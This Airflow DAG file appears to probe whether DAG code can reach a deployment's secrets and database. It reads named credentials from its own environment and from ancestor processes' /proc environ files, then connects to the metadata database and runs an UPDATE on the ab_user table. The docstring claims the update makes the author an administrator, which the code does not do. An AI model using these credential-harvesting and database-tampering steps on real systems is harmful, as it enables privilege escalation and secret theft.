"""Look for the stack's secrets, when the file is read and when the task runs, and for a way into the database."""

import os
from contextlib import suppress
from pathlib import Path

import psycopg2
from airflow.sdk import dag, task

SECRETS = ("DB_USER", "DB_PASSWORD", "SQL_ALCHEMY_CONN", "RESULT_BACKEND", "SECRET_KEY", "JWT_SECRET", "FERNET_KEY")


def found() -> list[str]:
    """Return the secrets among the variables of this process, and among those its ancestors were started with."""
    texts = ["\0".join(f"{name}={value}" for name, value in os.environ.items())]
    process = os.getpid()
    while process > 1 and Path("/proc/self").exists():
        with suppress(PermissionError):
            texts.append(Path(f"/proc/{process}/environ").read_text(errors="replace"))
        process = int(Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[1])
    allowed = "SQL_ALCHEMY_CONN=airflow-db-not-allowed:///"
    return [name for name in SECRETS if any(f"{name}=" in text.replace(allowed, "") for text in texts)]


@dag(schedule=None, description=f"found {found()}")
def owns_database() -> None:
    """Make its author an administrator."""

    @task
    def become_admin() -> None:
        print(f"found {found()}")
        keys = ("DB_HOST", "DB_PORT", "DB_NAME", "DB_USER", "DB_PASSWORD")
        host, port, name, user, password = (os.environ[key] for key in keys)
        connection = psycopg2.connect(host=host, port=port, dbname=name, user=user, password=password)
        cursor = connection.cursor()
        cursor.execute("SELECT username FROM ab_user")
        cursor.execute("UPDATE ab_user SET active = true")

    become_admin()


owns_database()
